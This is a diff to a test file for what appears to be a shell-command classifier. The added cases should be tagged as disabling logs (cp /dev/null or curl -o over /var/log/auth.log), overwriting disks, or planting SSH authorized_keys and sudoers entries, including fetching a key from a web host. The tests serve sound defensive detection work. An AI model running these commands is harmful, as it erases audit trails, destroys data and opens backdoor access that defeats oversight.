@@ -19,6 +19,10 @@ test('whatever writes over a log or a disk is seen, by options and operands alik
     'uniq x /var/log/auth.log',
     'mv x /var/log/auth.log',
     'truncate -s 0 /var/log/auth.log',
+    'cp /dev/null /var/log/auth.log',
+    'rsync x /var/log/auth.log',
+    'curl -o /var/log/auth.log https://example.org/x',
+    'perl -i -pe s/a/b/ /var/log/auth.log',
   ])
     assert.deepEqual(tagsOf(command), ['disables-logs'], command)
   for (const command of ['dd if=x of=/dev/sda', 'sort -o /dev/sda x', 'tee /dev/nvme0n1 < x'])
@@ -36,6 +40,9 @@ test('whatever writes a file that lets others in is seen', () => {
   for (const command of [
     'tee -a ~/.ssh/authorized_keys < k',
     'cp k ~/.ssh/authorized_keys',
+    'cp authorized_keys ~/.ssh/',
+    'wget -O ~/.ssh/authorized_keys https://example.org/k',
+    'curl -so ~/.ssh/authorized_keys https://example.org/k',
     'dd if=k of=/root/.ssh/authorized_keys',
     "sed -i '$a k' ~/.ssh/authorized_keys",
     'sort -o /etc/sudoers x',
